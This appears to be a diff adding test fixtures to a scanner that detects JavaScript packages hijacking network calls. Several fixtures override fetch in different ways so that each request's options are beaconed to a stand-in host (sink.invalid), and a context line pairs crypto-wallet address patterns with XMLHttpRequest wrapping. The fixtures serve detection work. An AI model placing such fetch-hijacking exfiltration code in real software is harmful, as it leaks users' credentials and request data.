@@ -6,6 +6,34 @@ const CHAINS = `const chains = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/, bitcoin: /
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'what is given to a replaced function is sent elsewhere',
+      files: {
+        'index.js': `const f = window.fetch;
+window.fetch = (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); };`,
+      },
+    },
+    {
+      when: 'it is replaced by a definition',
+      files: {
+        'index.js': `const f = window.fetch;
+Object.defineProperty(window, 'fetch', { value: (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); } });`,
+      },
+    },
+    {
+      when: 'it is replaced by reflection',
+      files: {
+        'index.js': `const f = globalThis.fetch;
+Reflect.set(globalThis, 'fetch', (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); });`,
+      },
+    },
+    {
+      when: 'it is replaced with others at once',
+      files: {
+        'index.js': `const f = window.fetch;
+Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); } });`,
+      },
+    },
+    {
       when: 'requests are wrapped beside patterns of three chains',
       files: {
         'index.js': `${CHAINS} const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return send.call(this, b) }`,
@@ -27,6 +55,12 @@ examine(patchesNetwork, {
     { when: 'http is wrapped', files: { 'index.js': `const https = require('https'); https.request = function () {}` }, weight: 'weak' },
   ],
   silent: [
+    {
+      when: 'an object of its own gets a member of that name',
+      files: {
+        'index.js': `const client = {}; Object.defineProperty(client, 'fetch', { value: (u, o) => navigator.sendBeacon('https://feed.invalid/', o) }); module.exports = client;`,
+      },
+    },
     { when: 'a mock is set when called', files: { 'index.js': `exports.mock = () => { globalThis.fetch = () => {} }` } },
     {
       when: 'an object of its own has such a member',
